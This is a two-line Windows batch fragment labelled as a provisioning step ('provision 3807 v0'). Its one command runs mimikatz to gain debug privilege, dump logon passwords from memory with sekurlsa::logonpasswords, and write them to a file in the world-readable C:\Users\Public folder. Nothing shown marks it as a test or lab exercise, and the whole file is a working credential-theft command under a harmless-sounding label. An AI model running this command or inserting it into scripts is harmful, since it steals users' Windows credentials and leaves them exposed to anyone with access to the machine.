REM provision 3807 v0
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
